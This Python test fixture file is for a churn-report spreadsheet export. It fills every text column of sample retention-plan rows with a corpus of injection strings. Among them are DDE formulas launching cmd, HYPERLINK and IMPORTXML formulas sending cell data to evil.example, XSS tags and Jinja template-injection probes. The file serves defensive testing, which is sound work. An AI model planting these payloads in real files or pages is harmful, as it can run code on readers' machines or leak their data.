"""A small list, and strings that people have used to attack those who open lists."""

import numpy as np
import pandas as pd
import pytest

from hvc_ml.report.workbook import About

CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\uff5ccalc",
    "harmless\r=1+1",
    "harmless\n=1+1",
    'quoted","=1+1',
    "'=1+1",
    '"=1+1"',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><iframe src=//evil.example>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:'About'!A1",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "&lt;script&gt;",
    "{=1+1}",
    "007",
    "1e5",
    "_x0041_",
    "[/b]",
    "\x1b[31mred",
    "é\u202egpj.exe",
    "$\\frac{1}{0}$",
]


def listed_rows(ids):
    n = len(ids)
    gain = np.linspace(500.0, 1.0, n).round(2)
    return pd.DataFrame(
        {
            "rank": np.arange(1, n + 1),
            "customer_id": ids,
            "tier": np.resize(["Priority", "Gold", "Mass"], n),
            "churn_risk": np.linspace(0.9, 0.1, n),
            "value_if_kept": np.linspace(3000.0, 50.0, n),
            "future_value": np.linspace(300.0, 45.0, n),
            "future_value_low": 0.0,
            "future_value_high": np.linspace(900.0, 80.0, n),
            "value_at_risk": np.linspace(2700.0, 5.0, n),
            "action": np.resize(["personal call", "personal e-mail"], n),
            "expected_gain": gain,
            "act_before": "2026-02-01",
            "group": np.resize(["contact", "contact", "contact", "holdout"], n),
            "reason_1": "no order for 94 days; usually every 31 days (peers: 22 days)",
            "reason_1_amount": 120.0,
            "reason_2": np.resize(["spent £12 in the last 90 days (peers: £240)", ""], n),
            "reason_2_amount": np.resize([30.5, np.nan], n),
            "reason_3": "",
            "reason_3_amount": np.nan,
            "model_version": "3",
            "cutoff": "2026-01-01",
            "owner": np.resize(["Ms Blue", ""], n),
            "channel": np.resize(["phone", "e-mail"], n),
            "talking_points": "Thank them for the orders so far. Ask what has changed.",
        }
    )


@pytest.fixture
def plan():
    return listed_rows([f"C{i:03d}" for i in range(40)])


@pytest.fixture
def hostile():
    """Every string of the corpus in every text column that a source or a configuration can reach."""
    plan = listed_rows(CORPUS)
    for column in ("tier", "action", "reason_1", "reason_2", "model_version", "owner", "channel", "talking_points"):
        plan[column] = CORPUS
    return plan


@pytest.fixture
def corpus():
    return CORPUS


@pytest.fixture
def about():
    return About("Blue Shop", "2026-01-01", "3", "GBP", 90, {"Value captured in the top 20 %": "77 %"})
